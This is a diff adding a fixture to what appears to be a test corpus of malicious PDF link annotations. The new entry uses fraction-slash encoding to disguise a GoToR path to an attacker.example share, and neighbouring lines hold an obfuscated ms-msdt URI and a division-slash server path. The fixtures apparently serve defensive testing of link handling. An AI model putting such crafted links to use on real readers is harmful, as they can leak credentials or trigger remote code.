@@ -673,6 +673,10 @@ const linkPdfs: CorpusItem[] = [
   linkItem('pdf-uri-utf16-combining-mark-in-scheme', () =>
     buildPdf(linkAnnotations(`<< /S /URI /URI ${utf16Hex('m\u0301s-msdt:/id PCWDiagnostic')} >>`)),
   ),
+  // PDFDocEncoding's 0x87, a fraction slash as pdf.js decodes it: `⁄⁄host⁄share` folds into a share.
+  linkItem('pdf-gotor-pdfdoc-fraction-slash-share', () =>
+    buildPdf(linkAnnotations('<< /S /GoToR /F (\\207\\207attacker.example\\207share\\207x.pdf) >>')),
+  ),
   linkItem('pdf-gotor-division-slash-server', () =>
     buildPdf(linkAnnotations(`<< /S /GoToR /F ${utf16Hex('\u2215attacker.example\u2215share\u2215x.pdf')} >>`)),
   ),
